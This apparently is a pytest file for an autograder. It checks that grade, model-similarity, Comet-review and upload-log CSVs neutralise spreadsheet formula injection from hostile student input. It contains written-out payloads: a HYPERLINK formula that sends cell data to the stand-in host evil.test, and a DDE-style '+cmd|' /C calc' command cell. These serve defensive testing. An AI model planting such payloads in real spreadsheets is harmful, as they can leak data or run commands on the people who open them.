"""Every CSV the grader writes opens in a spreadsheet with no cell it would run as a formula.

Each file is written through the code that writes it in grading, fed what a
hostile student can put there (a Comet parameter ``=HYPERLINK(...)``, a model
named ``+cmd``, a logged metric ``@SUM(...)``, an uploader's error quoting them),
then read back with the csv module: no cell starts with ``= + - @``, a tab or a
carriage return, and each hostile text is still there, as text. (The gradebook's
export is checked on a graded hostile class, in ``test_grade_hostile_class.py``.)
"""

from __future__ import annotations

import sys

import pytest

from autograder import graders
from autograder.comet import review as comet_review
from autograder.comet import upload as comet_upload
from autograder.pipeline.results import SubmissionResult, judged
from autograder.reports import feedback, spreadsheets
from autograder.scoring.model_fingerprints import SimilarPair
from tests.hostile_data import archive, csv_cells, formula_cells, message, metric, parameter

LAB = "lab1-mnist"
LINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'


@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (None, ""), (0.5, "0.5"), ("'=quoted", "'=quoted"),
])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(cell, shown):
    assert spreadsheets.neutralised(cell) == shown


def test_grades_and_identical_models_are_written_as_text(tmp_path):
    result = SubmissionResult(LINK, "+lab", "hash", (judged("-part", 2, True, "ok"),))
    feedback.write_grades_csv(tmp_path / "grades.csv", [result], ["-part", "@other"])
    feedback.write_identical_models_csv(tmp_path / "identical-models.csv", [
        SimilarPair("+cmd", "@ada", "=bob", "identical", None), SimilarPair("\tfc", "cy", "-dee", "-kind", -0.5)])

    for name in ("grades.csv", "identical-models.csv"):
        assert formula_cells(tmp_path / name) == [], name
    assert csv_cells(tmp_path / "grades.csv")[7:] == [f"'{LINK}", "'+lab", "2", "2", "graded", "2", "0"]
    assert csv_cells(tmp_path / "identical-models.csv")[5:] == [
        "'+cmd", "identical", "", "'@ada", "'=bob", "'\tfc", "'-kind", "'-0.5000", "cy", "'-dee"]


def test_the_comet_review_shows_what_a_run_logged_as_text(tmp_path):
    offline = tmp_path / "comet-offline"
    offline.mkdir()
    (offline / "-rf.zip").write_bytes(archive(
        [parameter("model", "cnn"), parameter(LINK, LINK), metric("test_accuracy", "@SUM(A1:A9)")],
        experiment='{"offline_id": "+cmd|\' /C calc\'!A0"}'))
    (offline / "=evil.zip").write_bytes(b"not a zip: its name and its problem go in the index")
    result = SubmissionResult("ada", LAB, "hash", (judged("test-cnn-accuracy", 3, True, "ok", value=0.98),),
                              comet_runs=comet_review.read_runs(offline))
    rows = comet_review.flag_disagreements(graders.grader_for(LAB).comet_review([result]))
    comet_review.write_index(tmp_path / "comet-review.csv", rows, "-the lab's test images")

    assert formula_cells(tmp_path / "comet-review.csv") == []
    written = csv_cells(tmp_path / "comet-review.csv")
    assert {"'-rf.zip", "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'=evil.zip", "'-the lab's test images"} <= set(written)


def test_the_upload_log_quotes_an_uploader_s_message_as_text(tmp_path, monkeypatch):
    out = tmp_path / "graded"
    (out / "results" / LAB).mkdir(parents=True)
    kept = comet_upload.kept_folder(out, LAB, "ada")
    kept.mkdir(parents=True)
    (kept / "run.zip").write_bytes(archive([message("log_other", key="Name", value=LINK)]))
    monkeypatch.setenv("COMET_API_KEY", "NotARealKeyButLongEnough1234")
    monkeypatch.setenv("HOME", str(tmp_path))
    says = (sys.executable, "-c", f"import sys; print('COMET ERROR: ' + {LINK!r}); sys.exit(1)")

    outcomes = comet_upload.upload(LAB, out, uploader=says, report=lambda line: None)

    assert [outcome.reason for outcome in outcomes] == [LINK]
    assert formula_cells(out / comet_upload.LOG_NAME) == []
    assert f"'{LINK}" in csv_cells(out / comet_upload.LOG_NAME)
    assert comet_upload.read_log(out / comet_upload.LOG_NAME)[(LAB, "ada", "run.zip")]["status"] == "failed"

